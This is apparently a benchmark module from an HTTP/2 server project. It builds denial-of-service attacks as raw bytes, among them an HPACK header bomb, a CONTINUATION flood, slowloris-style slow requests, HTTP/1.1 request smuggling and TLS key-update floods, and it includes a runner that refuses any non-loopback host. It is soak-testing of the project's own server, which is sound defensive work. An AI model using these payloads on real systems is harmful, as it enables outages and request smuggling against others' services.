"""Attacks, as bytes, and the process that sends them: what `benchmarks/soak.py` has amid its tabs.

`ATTACKS` are the floods of `benchmarks/floods.py`, endless, and those that hold a connection, or
ask for much by little.  An attack makes bytes for one connection; `python -m benchmarks.attacks
HOST PORT NAME CONNECTIONS [NICE]` sends them over that many, each of which comes back when the
server has ended it, until stdin ends.  It attacks nothing but this machine.

The attacker is to cost the server what it can, and those who measure beside it little.  So bytes
are made once for all connections; it can be nice, to whoever is in another session if it leads one
of its own; and a connection that was ended comes back after `again_seconds`, since else every flood
that is refused at once would be one of handshakes, which is an attack of its own.
"""

from __future__ import annotations

import ctypes
import ipaddress
import json
import os
import resource
import signal
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from itertools import chain, count, cycle, islice, repeat
from pathlib import Path
from typing import Literal, final

import hpack
import trio

from h2sse.config import Limits

from .floods import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    EVENTS,
    FLOODS,
    HEADERS,
    MAX_WINDOW,
    PING,
    PREFACE,
    SETTINGS,
    Asker,
    Build,
    body_without_end,
    frame,
    malformed_requests,
    requests,
    reset,
    settings,
    window_update,
)
from .key_updates import key_updates, telling

__all__ = [
    "AGAIN_SECONDS",
    "ATTACKS",
    "EVENTS",
    "FLOODS",
    "LOSSY",
    "Asker",
    "Attack",
    "malformed_requests",
]

# Of one connection, from the attempt to its end: the server's own deadlines come first, so only one
# that hears nothing of its end, or is served as long as it asks, is given up.
_PATIENCE_SECONDS = 100.0
# From a connection's end until it is back: 20 of them make 200 handshakes a second at the most,
# which cost the server a fifth of a core.
AGAIN_SECONDS = 0.1
# Of attacks by coming and going.
_AT_ONCE_SECONDS = 0.02
_READ_BYTES = 64 * 1024

_HELLO = PREFACE + settings({})


@final
@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """What one connection sends, over and over.

    After its last piece it waits for the server to end it; with `leaves` it goes itself, and if it
    is `deaf` nothing that the server sends reaches it any more.
    """

    make: Callable[[Asker], Iterator[bytes]]
    over: Literal["h2", "http/1.1", "tcp"] = "h2"
    hello: bytes = _HELLO
    reads: bool = True
    leaves: bool = False
    deaf: bool = False
    # What it sends past TLS, made of the secret of its keys.
    beneath: Callable[[bytes], Iterator[bytes]] | None = None
    pause_seconds: float = 0.0  # between two pieces
    again_seconds: float = AGAIN_SECONDS


# -- what they send

_INITIAL_WINDOW_SIZE, _HEADER_TABLE_SIZE = 4, 1  # RFC 9113 6.5.2
_WHOLE = END_STREAM | END_HEADERS
_PING = frame(PING, 0, 0, bytes(8))
_SLOWLY = 1.0
_NO_WINDOW = PREFACE + settings({_INITIAL_WINDOW_SIZE: 0})
_WIDE_STREAMS = PREFACE + settings({_INITIAL_WINDOW_SIZE: MAX_WINDOW})
_WIDE = _WIDE_STREAMS + window_update(0, MAX_WINDOW - 65_535)
# As many tabs as a connection may have, nearly.
_TABS = 250
# The topic of which soak.py's server drops the oldest events.
LOSSY = "lossy"


def _endless(build: Build) -> Callable[[Asker], Iterator[bytes]]:
    def make(asker: Asker) -> Iterator[bytes]:
        while True:
            yield b"".join(build(asker))

    return make


def _nothing(_: Asker) -> Iterator[bytes]:
    return iter(())


def _once(*pieces: bytes) -> Callable[[Asker], Iterator[bytes]]:
    return lambda _: iter(pieces)


def _over_and_over(*pieces: bytes, then: bytes) -> Callable[[Asker], Iterator[bytes]]:
    """These, and then another without end."""

    def make(_: Asker) -> Iterator[bytes]:
        yield from pieces
        yield from repeat(then)

    return make


def _tabs(*fields: tuple[str, str]) -> Callable[[Asker], Iterator[bytes]]:
    """Tabs, and PINGs: a peer that says nothing is ended for that, whatever else it holds."""

    def make(asker: Asker) -> Iterator[bytes]:
        yield b"".join(data for _, data in requests(asker, _TABS, *fields))
        yield from repeat(_PING)

    return make


def _tabs_alone(asker: Asker) -> Iterator[bytes]:
    yield next(_tabs()(asker))


def _pings_unread(asker: Asker) -> list[bytes]:
    """No more PINGs than requests have earned, so that it is their answers that count."""
    return [asker.request("/healthz", method="HEAD")[1] + _PING * 4 for _ in range(60)]


def _lossy_tabs(asker: Asker) -> Iterator[bytes]:
    """Tabs that read next to nothing, and events of 8 KB for them: more than may wait."""
    yield b"".join(asker.request(f"/events?topic={LOSSY}")[1] for _ in range(200))
    form = ("content-type", "application/x-www-form-urlencoded")
    body = f"topic={LOSSY}&data=".encode().ljust(8_192, b"x")
    for _ in range(8):
        yield asker.request("/publish", form, method="POST", body=body)[1]


def _key_updates(secret: bytes) -> Iterator[bytes]:
    records = key_updates(secret)
    # None serves another connection: to make more than the server bears would keep us busy instead.
    for _ in range(6):
        yield b"".join(islice(records, 500))


def _key_updates_amid(size: int, every: int) -> Callable[[bytes], Iterator[bytes]]:
    """A frame of unknown type and `size` bytes, and then as many updates, over and over."""
    unknown = frame(0xBB, 0, 0, bytes(size))

    def make(secret: bytes) -> Iterator[bytes]:
        data = cycle([unknown, *repeat(b"", every - 1)])
        records = key_updates(secret, chain([_HELLO], data))
        for _ in range(10):
            yield b"".join(islice(records, 3_000))

    return make


def _comes_and_goes(asker: Asker) -> Iterator[bytes]:
    """Ten tabs that are open for a moment: no attack, unless something of them stays."""
    streams = requests(asker, 10)
    yield b"".join(data for _, data in streams)
    yield b"".join(reset(stream) for stream, _ in streams[:5])


def _bodies(asker: Asker) -> Iterator[bytes]:
    yield b"".join(body_without_end(asker)[1] for _ in range(100))


def _slow_body(asker: Asker) -> Iterator[bytes]:
    stream, opening = body_without_end(asker)
    yield opening
    yield from repeat(frame(DATA, 0, stream, b"x"))


def _bomb(asker: Asker) -> Iterator[bytes]:
    """7 MB in 2 KB: one field, nearly as large as the table, and then its index (CVE-2016-6581)."""
    stream, data = asker.request("/healthz", ("x", "y" * 4_000))
    yield data
    yield frame(HEADERS, _WHOLE, stream.id + 2, b"\xbe" * 1_900)


def _unknown_settings(_: Asker) -> Iterator[bytes]:
    """As many as a frame may have, and never one twice."""
    for first in range(0x1000, 0x10000, 32):
        yield settings(dict.fromkeys(range(first, first + 32), 1))


def _last_stream(asker: Asker) -> Iterator[bytes]:
    _, data = asker.request(EVENTS)
    yield data[:5] + MAX_WINDOW.to_bytes(4, "big") + data[9:]


def _invented(asker: Asker) -> Iterator[bytes]:
    """Paths, names and values that nobody has seen before."""
    for at in count(step=60):
        made = (
            asker.request(f"/{n}", (f"a b{n}" if n % 2 else f"x{n}", f"\x01{n}"))
            for n in range(at, at + 60)
        )
        yield b"".join(data for _, data in made)


def _many_requests(asker: Asker) -> Iterator[bytes]:
    """Good ones, each of which is answered."""
    for _ in range(50):
        yield b"".join(asker.request("/healthz")[1] for _ in range(60))


# Bodies that a server may take far longer to read than they took to come, or take far more memory.
_BODY_BYTES = Limits().body_bytes
_DEAR = (
    (b"application/x-www-form-urlencoded", b"topic=a&data=", b"%"),
    (b"application/x-www-form-urlencoded", b"topic=b&data=", b"%41a"),
    (b"application/x-www-form-urlencoded", b"topic=b&data=", b"%0A"),
    (b"application/json", b'{"data": [', b"[],"),
    (b"application/json", b"{", b'"":0,'),
    (b"application/json", b'{"topic": "b", "data": "', b"\\n"),
)


def _dear_bodies(_: Asker) -> Iterator[bytes]:
    for content_type, first, piece in _DEAR:
        body = first + piece * ((_BODY_BYTES - len(first)) // len(piece))
        yield b"POST /publish HTTP/1.1\r\nHost: a\r\n"
        yield b"Content-Type: %b\r\nContent-Length: %d\r\n\r\n" % (content_type, len(body)) + body


_GET = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"
_HOLDING = b"GET /healthz HTTP/1.1\r\nHost: a\r\nX: "
_POST = b"POST /publish HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n"


def _http1(
    make: Callable[[Asker], Iterator[bytes]], *, pause_seconds: float = 0.0, deaf: bool = False
) -> Attack:
    return Attack(make=make, over="http/1.1", hello=b"", pause_seconds=pause_seconds, deaf=deaf)


ATTACKS: dict[str, Attack] = {
    **{name: Attack(make=_endless(build)) for name, (build, _) in FLOODS.items()},
    "PING, unread": Attack(make=_endless(_pings_unread), hello=_WIDE, reads=False),
    "SETTINGS of 33 entries": Attack(make=_once(frame(SETTINGS, 0, 0, bytes(6 * 33)))),
    "unknown settings": Attack(make=_unknown_settings),
    "SETTINGS acknowledged": Attack(make=_over_and_over(then=frame(SETTINGS, ACK, 0))),
    "surplus streams": Attack(
        make=_endless(lambda asker: [data for _, data in requests(asker, 60)])
    ),
    "the last stream": Attack(make=_last_stream, leaves=True, pause_seconds=0.05),
    "a frame of 16 MiB": Attack(make=_once(b"\xff\xff\xff\0\0" + bytes(4))),
    "CONTINUATION": Attack(  # CVE-2024-27316
        make=_once(frame(HEADERS, END_STREAM, 1), *[frame(CONTINUATION, 0, 1, b"x")] * 1_000)
    ),
    "CONTINUATION of 16 KiB": Attack(
        make=_over_and_over(
            frame(HEADERS, END_STREAM, 1, bytes(16_384)),
            then=frame(CONTINUATION, 0, 1, bytes(16_384)),
        )
    ),
    "header bomb": Attack(make=_bomb),
    "table-size updates": Attack(make=_once(frame(HEADERS, _WHOLE, 1, b"\x20" * 16_000))),
    "a table of 4 GiB": Attack(
        make=_comes_and_goes,
        hello=PREFACE + settings({_HEADER_TABLE_SIZE: 2**32 - 1}),
        leaves=True,
        pause_seconds=0.05,
    ),
    "PING before SETTINGS": Attack(make=_once(_PING), hello=PREFACE),
    "invented names": Attack(make=_invented),
    "no TLS": Attack(make=_nothing, over="tcp", hello=b""),
    "a slow TLS hello": Attack(
        # A handshake record of 512 bytes, with a ClientHello of 508.
        make=_over_and_over(then=b"\0"),
        over="tcp",
        hello=b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        pause_seconds=_SLOWLY,
    ),
    "key updates": Attack(make=_nothing, hello=b"", beneath=_key_updates),
    "key updates behind data": Attack(
        make=_nothing, hello=b"", beneath=_key_updates_amid(9_000, every=640), leaves=True
    ),
    "key updates amid data": Attack(
        make=_nothing, hello=b"", beneath=_key_updates_amid(200, every=30), leaves=True
    ),
    "no preface": Attack(make=_nothing, hello=b""),
    "no SETTINGS": Attack(make=_nothing, hello=PREFACE),
    "half a frame": Attack(make=_once(frame(HEADERS, _WHOLE, 1, bytes(100))[:50])),
    "a section without end": Attack(
        make=_once(frame(HEADERS, END_STREAM, 1), *[frame(CONTINUATION, 0, 1)] * 7),
        pause_seconds=_SLOWLY,
    ),
    "no request": Attack(make=_nothing),
    "no bodies": Attack(make=_bodies),
    "a slow body": Attack(make=_slow_body, pause_seconds=_SLOWLY),
    "no window": Attack(make=_tabs(), hello=_NO_WINDOW, pause_seconds=_SLOWLY),
    "no connection window": Attack(make=_tabs(), hello=_WIDE_STREAMS, pause_seconds=_SLOWLY),
    # An id that nobody gave: they are sent all that is remembered.
    "no window for a replay": Attack(
        make=_tabs(("last-event-id", "x")), hello=_NO_WINDOW, pause_seconds=_SLOWLY
    ),
    "no window for a lossy topic": Attack(
        make=_lossy_tabs,
        hello=PREFACE + settings({_INITIAL_WINDOW_SIZE: 100}),
        leaves=True,
        pause_seconds=0.25,
    ),
    "no reading": Attack(make=_tabs(), hello=_WIDE, reads=False, pause_seconds=_SLOWLY),
    "a pulled cable": Attack(make=_tabs_alone, hello=_WIDE, deaf=True),
    "connections": Attack(
        make=_nothing, over="tcp", hello=b"", leaves=True, again_seconds=_AT_ONCE_SECONDS
    ),
    "handshakes": Attack(make=_nothing, leaves=True, again_seconds=_AT_ONCE_SECONDS),
    "come and go": Attack(
        make=_comes_and_goes, leaves=True, pause_seconds=0.05, again_seconds=_AT_ONCE_SECONDS
    ),
    "many requests": Attack(make=_many_requests, leaves=True),
    "http/1.1: smuggling": _http1(
        _once(_POST + b"Content-Length: 4\r\n" + _CHUNKED + b"\r\n0\r\n\r\n" + _GET)
    ),
    "http/1.1: a long head": _http1(_over_and_over(_HOLDING, then=b"y" * 4_096)),
    "http/1.1: a large body": _http1(_once(_POST + b"Content-Length: 9999999\r\n\r\n")),
    "http/1.1: unfinished bodies": _http1(
        _once(_POST + b"Content-Length: %d\r\n\r\n" % _BODY_BYTES + bytes(_BODY_BYTES - 1))
    ),
    "http/1.1: chunks of a byte": _http1(
        _over_and_over(_POST + _CHUNKED + b"\r\n", then=b"1\r\nx\r\n" * 500)
    ),
    "http/1.1: dear bodies": Attack(
        make=_dear_bodies, over="http/1.1", hello=b"", leaves=True, pause_seconds=0.1
    ),
    "http/1.1: early requests": _http1(_over_and_over(then=_GET * 100)),
    "http/1.1: a slow head": _http1(_over_and_over(_HOLDING, then=b"y"), pause_seconds=_SLOWLY),
    "http/1.1: a slow body": _http1(
        _over_and_over(_POST + b"Content-Length: 99\r\n\r\n", then=b"x"), pause_seconds=_SLOWLY
    ),
    "http/1.1: a pulled cable": _http1(
        _once(f"GET {EVENTS} HTTP/1.1\r\nHost: a\r\n\r\n".encode()), deaf=True
    ),
}


# -- the process that attacks


@final
@dataclass(frozen=True, slots=True)
class _Stream:
    id: int


@final
class _Client:
    def __init__(self) -> None:
        self._next = 1
        self._encoder = hpack.Encoder()

    def request(
        self,
        path: str,
        *fields: tuple[str, str],
        method: str = "GET",
        body: bytes | None = None,
    ) -> tuple[_Stream, bytes]:
        stream = _Stream(self._next)
        self._next += 2
        head = ((":method", method), (":scheme", "https"), (":authority", "a"), (":path", path))
        block = bytes(self._encoder.encode([*head, *fields]))
        data = frame(HEADERS, END_HEADERS | (END_STREAM if body is None else 0), stream.id, block)
        if body is not None:
            data += frame(DATA, END_STREAM, stream.id, body)
        return stream, data


@final
class _Tape:
    """The pieces of an attack: made when the first connection comes to them, for all."""

    def __init__(self, attack: Attack) -> None:
        self._source = attack.make(_Client())
        self._made: list[bytes] = []

    def __iter__(self) -> Iterator[bytes]:
        for at in count():
            if at == len(self._made):
                piece = next(self._source, None)
                if piece is None:
                    return
                self._made.append(piece)
            yield self._made[at]


_tape = cache(_Tape)


def _context(protocol: str) -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([protocol])
    return context


_shared_context = cache(_context)  # to make it takes longer than to connect


async def _attack_once(attack: Attack, host: str, port: int, counts: Counter[str]) -> None:
    if attack.beneath is not None:
        await _attack_beneath(attack, attack.beneath, host, port, counts)
        return
    transport = await trio.open_tcp_stream(host, port)
    counts["connections"] += 1
    stream: trio.abc.Stream = transport
    try:
        if attack.over != "tcp":
            context = _shared_context(attack.over)
            stream = trio.SSLStream(transport, context, https_compatible=True)
            await stream.do_handshake()
        async with trio.open_nursery() as nursery:
            if attack.reads:
                nursery.start_soon(_read, stream, nursery.cancel_scope)
            await stream.send_all(attack.hello)
            for piece in _tape(attack):
                await stream.send_all(piece)
                await trio.sleep(attack.pause_seconds)
            if attack.deaf:
                _deafen(transport.socket)
            if attack.leaves:
                nursery.cancel_scope.cancel()
            await trio.sleep_forever()
    finally:
        await trio.aclose_forcefully(stream)


async def _attack_beneath(
    attack: Attack,
    make: Callable[[bytes], Iterator[bytes]],
    host: str,
    port: int,
    counts: Counter[str],
) -> None:
    context = _context(attack.over)
    with telling(context) as secret:
        transport = await trio.open_tcp_stream(host, port)
        counts["connections"] += 1
        try:
            await trio.SSLStream(transport, context, https_compatible=True).do_handshake()
            for piece in make(secret()):
                await transport.send_all(piece)
            while not attack.leaves and await transport.receive_some(_READ_BYTES):
                pass
        finally:
            await trio.aclose_forcefully(transport)


async def _read(stream: trio.abc.Stream, cancel_scope: trio.CancelScope) -> None:
    with suppress(trio.BrokenResourceError):
        while await stream.receive_some(_READ_BYTES):
            pass
    cancel_scope.cancel()


def _deafen(sock: trio.socket.SocketType) -> None:
    """Drop whatever comes, so that nothing is acknowledged: to the server its cable is pulled."""
    drop_all = ctypes.create_string_buffer(struct.pack("HBBI", 0x06, 0, 0, 0))  # return 0 bytes
    attach = 26  # SO_ATTACH_FILTER, of a struct sock_fprog (linux/filter.h)
    sock.setsockopt(socket.SOL_SOCKET, attach, struct.pack("HP", 1, ctypes.addressof(drop_all)))


async def _attack(attack: Attack, host: str, port: int, counts: Counter[str]) -> None:
    while True:
        try:
            with trio.move_on_after(_PATIENCE_SECONDS):
                await _attack_once(attack, host, port, counts)
        except* (OSError, trio.BrokenResourceError, ssl.SSLError):
            pass  # that is what it is for
        await trio.sleep(attack.again_seconds)


async def _main(name: str, host: str, port: int, connections: int) -> dict[str, float]:
    counts: Counter[str] = Counter(connections=0)
    began, used = time.monotonic(), _cpu_seconds()
    async with trio.open_nursery() as nursery:
        for _ in range(connections):
            nursery.start_soon(_attack, ATTACKS[name], host, port, counts)
        print("begun", flush=True)
        async with trio.lowlevel.FdStream(os.dup(0)) as stdin:
            async for _ in stdin:
                pass
        nursery.cancel_scope.cancel()
    share = (_cpu_seconds() - used) / (time.monotonic() - began)
    return {**counts, "cpu": round(share, 3)}


def _cpu_seconds() -> float:
    usage = resource.getrusage(resource.RUSAGE_SELF)
    return usage.ru_utime + usage.ru_stime


def _be_nice(nice: int) -> None:
    os.nice(nice)
    # sched(7): where sessions share the cores as groups (autogroup), that counts within a session
    # only, and a session has a niceness of its own.  One that we share is not ours to change.
    if os.getsid(0) == os.getpid() and (group := Path("/proc/self/autogroup")).exists():
        group.write_text(str(nice))


def main(arguments: list[str]) -> None:
    """Say "begun" and attack until stdin ends; then say what that took, as JSON.

    `connections` are how many it made in all, `cpu` its share of a core.
    """
    host, port, name, connections, *nice = arguments
    if not ipaddress.ip_address(host).is_loopback:
        raise SystemExit(f"{host} is not this machine: nothing else is attacked")
    # Ctrl-C is the runner's: it closes our stdin.
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    if nice:
        _be_nice(int(nice[0]))
    told = trio.run(_main, name, host, int(port), int(connections))
    print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
